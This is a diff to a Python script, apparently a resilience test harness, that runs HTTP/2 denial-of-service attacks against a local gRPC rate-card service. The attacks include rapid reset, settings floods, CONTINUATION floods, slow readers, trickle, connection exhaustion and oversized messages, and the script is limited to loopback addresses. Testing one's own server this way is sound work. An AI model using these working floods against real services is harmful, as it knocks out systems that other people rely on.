@@ -1,278 +1,329 @@
-"""What hostile peers do to a gRPC server, over bare sockets.
+"""What clients do that mean harm, or do not know better; over bare sockets.
 
-  attacks.py NAME HOST:PORT SECONDS
+  attacks.py NAME HOST:PORT SECONDS REQUEST
 
-Goes on for so long, then ends; bounded in sockets and memory. To be used on a
-server of one's own, on loopback.
+does one of ATTACKS for that long; REQUEST is the file of a request of
+BatchEstimateCosts. Only for servers on this machine.
 """
 
-import contextlib
 import os
+import pathlib
+import random
 import socket
+import ssl
 import struct
 import sys
 import time
 
-import http2_call as h2
+import http2_call as http2
 
-BATCH = "/ratecard.v1.EstimateService/BatchEstimateCosts"
 ESTIMATE = "/ratecard.v1.EstimateService/EstimateCost"
+BATCH = "/ratecard.v1.EstimateService/BatchEstimateCosts"
 STREAM = "/ratecard.v1.EstimateService/StreamEstimateCosts"
-PIECE = 16_384  # The largest frame that a peer must take.
 
 
-def text(number, value):
-    """A field of protobuf with bytes of at most 127 B."""
-    return bytes([number << 3 | 2, len(value)]) + value
+class Target:
+    """The server, and until when to bother it."""
 
+    def __init__(self, address, seconds, request):
+        self.host, port = address.rsplit(":", 1)
+        if not self.host.startswith("127."):
+            sys.exit("attacks.py: only for servers on this machine")
+        self._address = (self.host, int(port))
+        self._end = time.monotonic() + seconds
+        self.request = request
 
-# 1,000,000 input tokens of a model, by field numbers of the proto files.
-ONE_REQUEST = text(1, b"gpt-5.2-codex") + text(3, b"\x08\xc0\x84\x3d")
+    def going(self):
+        return time.monotonic() < self._end
 
+    def connect(self):
+        """A bare connection, of which nothing waits longer than 0.2 s."""
+        connection = socket.create_connection(self._address, timeout=5)
+        connection.settimeout(0.2)
+        return connection
 
-class Peer:
-    """A connection that has begun to speak HTTP/2."""
-
-    def __init__(self, address, settings=b""):
-        host, port = address.rsplit(":", 1)
-        self.socket = socket.create_connection((host, int(port)), timeout=5)
-        self.socket.settimeout(0.2)
-        self.next_stream = 1
-        self.alive = True
-        self.send(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, settings))
-
-    def send(self, data):
-        """Sends as much as the server takes within a moment."""
-        try:
-            self.socket.sendall(data)
-        except TimeoutError:
-            pass
-        except OSError:
-            self.alive = False
-
-    def skim(self):
-        """Reads what has come, without looking at it."""
-        self.socket.setblocking(False)
-        try:
-            while True:
-                data = self.socket.recv(1 << 16)
-                if not data:
-                    self.alive = False
-                    return
-        except BlockingIOError:
-            pass
-        except OSError:
-            self.alive = False
-        finally:
-            self.socket.settimeout(0.2)
-
-    def open(self, path, flags=h2.END_HEADERS):
-        stream = self.next_stream
-        self.next_stream += 2
-        return stream, h2.frame(h2.HEADERS, flags, stream, h2.call_headers(path))
-
-
-def rounds(seconds):
-    end = time.monotonic() + seconds
-    while time.monotonic() < end:
-        yield
-
-
-def again(peer, address, settings=b""):
-    """The peer, or a new one in the place of one that was hung up on."""
-    if peer is not None and peer.alive:
-        return peer
-    with contextlib.suppress(OSError):
-        return Peer(address, settings)
-    time.sleep(0.01)
-    return None
-
-
-def rapid_reset(address, seconds):
-    """Opens calls and resets them at once (CVE-2023-44487)."""
-    peer = None
-    for _ in rounds(seconds):
-        peer = again(peer, address)
-        if peer is None:
-            continue
-        burst = []
-        for _ in range(100):
-            stream, headers = peer.open(ESTIMATE)
-            burst += [
-                headers,
-                h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(ONE_REQUEST)),
-                h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8)),
-            ]
-        peer.send(b"".join(burst))
-        peer.skim()
-
-
-def ping_flood(address, seconds):
-    peer = None
-    for _ in rounds(seconds):
-        peer = again(peer, address)
-        if peer is not None:
-            peer.send(h2.frame(h2.PING, 0, 0, b"\0" * 8) * 500)
-            peer.skim()
-
-
-def settings_flood(address, seconds):
-    """Settings to acknowledge, and never reads the acknowledgements."""
-    peer = None
-    for _ in rounds(seconds):
-        peer = again(peer, address)
-        if peer is not None:
-            peer.send(h2.frame(h2.SETTINGS, 0, 0) * 500)
-
-
-def giant_headers(address, seconds):
-    """Headers of 8 MB in one call."""
-    peer = None
-    filler = h2.header(b"x", b"y" * 127) * 126
-    for _ in rounds(seconds):
-        peer = again(None, address)
-        if peer is None:
-            continue
-        stream, headers = peer.open(ESTIMATE, flags=0)
-        peer.send(headers)
-        for _ in range(512):
-            if peer.alive:
-                peer.send(h2.frame(h2.CONTINUATION, 0, stream, filler))
-        peer.socket.close()
-
-
-def continuation_flood(address, seconds):
-    """Headers that never end, of frames without content."""
-    peer = None
-    for _ in rounds(seconds):
-        if peer is None or not peer.alive:
-            peer = again(peer, address)
-            if peer is None:
-                continue
-            stream, headers = peer.open(ESTIMATE, flags=0)
-            peer.send(headers)
-        peer.send(h2.frame(h2.CONTINUATION, 0, stream) * 500)
-        peer.skim()
-
-
-def garbage(address, seconds):
-    """Bytes that are no HTTP/2."""
-    host, port = address.rsplit(":", 1)
-    for _ in rounds(seconds):
-        with contextlib.suppress(OSError):
-            with socket.create_connection((host, int(port)), timeout=1) as peer:
-                peer.settimeout(0.2)
-                peer.sendall(os.urandom(4096))
-                peer.recv(1)
-
-
-def connection_flood(address, seconds):
-    """As many connections as there are, which say nothing."""
-    host, port = address.rsplit(":", 1)
-    held = []
-    for _ in rounds(seconds):
-        with contextlib.suppress(OSError):
-            held.append(socket.create_connection((host, int(port)), timeout=1))
-        if len(held) > 800:
-            for one in held[:200]:
-                one.close()
-            del held[:200]
-
-
-def half_open(address, seconds):
-    """Connections that begin HTTP/2, or half a frame, and stop."""
-    peers = [again(None, address) for _ in range(100)]
-    for peer in filter(None, peers):
-        stream, headers = peer.open(ESTIMATE)
-        peer.send(headers[: len(headers) // 2])
-    time.sleep(seconds)
-
-
-def huge_messages(address, seconds):
-    """Messages that say they have 4 GB, and are sent."""
-    for _ in rounds(seconds):
-        peer = again(None, address)
-        if peer is None:
-            continue
-        stream, headers = peer.open(ESTIMATE)
-        peer.send(headers + h2.frame(h2.DATA, 0, stream, b"\0\xff\xff\xff\xff"))
-        for _ in range(64):
-            if peer.alive:
-                peer.send(h2.frame(h2.DATA, 0, stream, b"x" * PIECE))
-        peer.socket.close()
-
-
-def slow_readers(address, seconds):
-    """Asks for large answers and reads none of them."""
-    item = text(1, ONE_REQUEST)
-    batch = h2.message(item * 500)
-    no_window = struct.pack(">HI", h2.INITIAL_WINDOW_SIZE, 0)
-    peers = [again(None, address, no_window) for _ in range(8)]
-    for _ in rounds(seconds):
-        for i, peer in enumerate(peers):
-            peers[i] = peer = again(peer, address, no_window)
-            if peer is None:
-                continue
-            stream, headers = peer.open(BATCH)
-            data = b"".join(
-                h2.frame(
-                    h2.DATA,
-                    h2.END_STREAM if at + PIECE >= len(batch) else 0,
-                    stream,
-                    batch[at : at + PIECE],
-                )
-                for at in range(0, len(batch), PIECE)
-            )
-            peer.send(headers + data)
-            peer.skim()
-        time.sleep(0.01)
-
-
-def idle_streams(address, seconds):
-    """Opens streams, as many as it can, and sends nothing on them."""
-    peer = None
-    for _ in rounds(seconds):
-        peer = again(peer, address)
-        if peer is not None:
-            peer.send(b"".join(peer.open(STREAM)[1] for _ in range(50)))
-            peer.skim()
-        time.sleep(0.02)
-
-
-def trickle(address, seconds):
-    """Sends calls byte by byte."""
-    peers = [again(None, address) for _ in range(50)]
-    texts = {}
-    for peer in filter(None, peers):
-        stream, headers = peer.open(ESTIMATE)
-        texts[peer] = headers + h2.frame(
-            h2.DATA, h2.END_STREAM, stream, h2.message(ONE_REQUEST)
+    def hello(self, settings=b""):
+        """One that has said that it is of HTTP/2."""
+        connection = self.connect()
+        send(
+            connection,
+            http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, settings),
         )
-    at = 0
-    for _ in rounds(seconds):
-        for peer, data in texts.items():
-            peer.send(data[at : at + 1])
-        at += 1
-        time.sleep(0.02)
+        return connection
+
+    def headers(self, stream, path=ESTIMATE, flags=http2.END_HEADERS):
+        block = http2.call_headers(path, self.host)
+        return http2.frame(http2.HEADERS, flags, stream, block)
+
+
+def send(connection, data):
+    """Whether all of it went out."""
+    try:
+        connection.sendall(data)
+        return True
+    except OSError:
+        return False
+
+
+def drop_input(connection):
+    """Reads what there is. False once the server has closed."""
+    try:
+        return bool(connection.recv(1 << 20, socket.MSG_DONTWAIT))
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
+def flood(target, of_round, read=True):
+    """Sends of_round(0), of_round(1) … as fast as the server takes it, over a
+    new connection whenever one is closed or stuck."""
+    while target.going():
+        connection = target.hello()
+        number = 0
+        while target.going() and send(connection, of_round(number)):
+            number += 1
+            if read and not drop_input(connection):
+                break
+        connection.close()
+
+
+def reset_streams(target):
+    """Opens streams and resets them, CVE-2023-44487."""
+
+    def of_round(number):
+        out = []
+        for stream in range(number * 200 + 1, number * 200 + 201, 2):
+            out.append(target.headers(stream))
+            out.append(
+                http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
+            )
+        return b"".join(out)
+
+    flood(target, of_round)
+
+
+def reset_calls(target):
+    """The same with whole requests."""
+    request = http2.message(b"")
+
+    def of_round(number):
+        out = []
+        for stream in range(number * 200 + 1, number * 200 + 201, 2):
+            out.append(target.headers(stream))
+            out.append(
+                http2.frame(http2.DATA, http2.END_STREAM, stream, request)
+            )
+            out.append(
+                http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
+            )
+        return b"".join(out)
+
+    flood(target, of_round)
+
+
+def pings(target):
+    """Pings whose answers are read."""
+    ping = http2.frame(http2.PING, 0, 0, bytes(8)) * 1000
+    flood(target, lambda number: ping)
+
+
+def settings(target):
+    """Settings whose acknowledgements are not read, CVE-2019-9515."""
+    one = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535)
+    frames = http2.frame(http2.SETTINGS, 0, 0, one) * 1000
+    flood(target, lambda number: frames, read=False)
+
+
+def endless_headers(target):
+    """Headers that go on and on, CVE-2024-27316."""
+    more = http2.header(b"x" * 60, b"y" * 60) * 100
+
+    def of_round(number):
+        if number == 0:
+            return target.headers(1, flags=0)
+        return http2.frame(http2.CONTINUATION, 0, 1, more) * 10
+
+    flood(target, of_round)
+
+
+def giant_headers(target):
+    """Calls with 100 times the headers that may be."""
+    more = http2.header(b"x" * 60, b"y" * 60) * 100
+
+    def of_round(number):
+        stream = 2 * number + 1
+        return b"".join(
+            [
+                target.headers(stream, flags=http2.END_STREAM),
+                http2.frame(http2.CONTINUATION, 0, stream, more) * 99,
+                http2.frame(
+                    http2.CONTINUATION, http2.END_HEADERS, stream, more
+                ),
+            ]
+        )
+
+    flood(target, of_round)
+
+
+def garbage(target):
+    """Bytes of anything but HTTP/2."""
+    hello = ssl.MemoryBIO()
+    tls = ssl.create_default_context().wrap_bio(
+        ssl.MemoryBIO(), hello, server_hostname="x"
+    )
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    noise = random.Random(1)
+    samples = [
+        hello.read(),
+        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+        b"\0" * 100_000,
+        http2.PREFACE + noise.randbytes(100_000),
+        http2.PREFACE[:10],
+    ]
+    while target.going():
+        for sample in samples + [noise.randbytes(10_000)]:
+            connection = target.connect()
+            send(connection, sample)
+            drop_input(connection)
+            connection.close()
+
+
+def connections(target):
+    """More connections than may be, that only say hello."""
+    held = []
+    while target.going():
+        try:
+            held.append(target.hello())
+        except OSError:
+            time.sleep(0.01)
+        if len(held) > 1500:
+            held.pop(0).close()
+
+
+def half_open(target):
+    """Connections that never say what they want."""
+    held = []
+    while target.going() and len(held) < 150:
+        connection = target.connect()
+        send(connection, http2.PREFACE[: len(held) % 20])
+        held.append(connection)
+    while target.going():
+        time.sleep(0.05)
+
+
+def idle_streams(target):
+    """Calls without end, ten times as many as a connection may have. The
+    server's settings, which say so, are never acknowledged."""
+    held = []
+    while target.going():
+        if len(held) < 20:
+            connection = target.hello()
+            for number in range(100):
+                first = 200 * number + 1
+                path = (ESTIMATE, STREAM)[number % 2]
+                send(
+                    connection,
+                    b"".join(
+                        target.headers(stream, path)
+                        for stream in range(first, first + 200, 2)
+                    ),
+                )
+            held.append(connection)
+        else:
+            time.sleep(0.05)
+
+
+def slow_readers(target):
+    """Large answers that are never read."""
+    no_window = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0)
+    held = []
+    while target.going():
+        if len(held) >= 100:
+            time.sleep(0.05)
+            continue
+        connection = target.hello(no_window)
+        for stream in range(1, 41, 2):
+            data = http2.message(target.request)
+            out = [target.headers(stream, BATCH)]
+            for start in range(0, len(data), 16384):
+                out.append(
+                    http2.frame(
+                        http2.DATA, 0, stream, data[start : start + 16384]
+                    )
+                )
+            out.append(http2.frame(http2.DATA, http2.END_STREAM, stream))
+            if not send(connection, b"".join(out)):
+                break
+        held.append(connection)
+
+
+def trickle(target):
+    """Calls that come one byte at a time."""
+    held = [[target.hello(), 0] for _ in range(100)]
+    data = target.headers(1) + http2.frame(
+        http2.DATA, http2.END_STREAM, 1, http2.message(bytes(10_000))
+    )
+    while target.going():
+        for pair in held:
+            connection, sent = pair
+            send(connection, data[sent : sent + 1])
+            pair[1] += 1
+
+
+def huge_messages(target):
+    """Messages that say that they have 4 GB, and some that nearly have the
+    4 MB that a request may, and never come to an end."""
+    held = []
+    piece = bytes(16384)
+    while target.going():
+        connection = target.hello()
+        for stream in range(1, 101, 2):
+            length = (4 << 20) - 100 if stream % 4 == 1 else 0xFFFFFFFF
+            start = b"\0" + struct.pack(">I", length)
+            if not send(
+                connection,
+                target.headers(stream)
+                + http2.frame(http2.DATA, 0, stream, start)
+                + http2.frame(http2.DATA, 0, stream, piece) * 3,
+            ):
+                break
+        held.append(connection)
+        if len(held) > 150:
+            held.pop(0).close()
 
 
 ATTACKS = {
-    function.__name__: function
-    for function in (
-        rapid_reset,
-        ping_flood,
-        settings_flood,
+    attack.__name__: attack
+    for attack in (
+        reset_streams,
+        reset_calls,
+        pings,
+        settings,
+        endless_headers,
         giant_headers,
-        continuation_flood,
         garbage,
-        connection_flood,
+        connections,
         half_open,
-        huge_messages,
-        slow_readers,
         idle_streams,
+        slow_readers,
         trickle,
+        huge_messages,
     )
 }
 
+
+def main():
+    name, address, seconds, request = sys.argv[1:]
+    # The machine has to have time for those who are attacked.
+    os.nice(5)
+    ATTACKS[name](
+        Target(address, float(seconds), pathlib.Path(request).read_bytes())
+    )
+
+
 if __name__ == "__main__":
-    ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3]))
+    main()
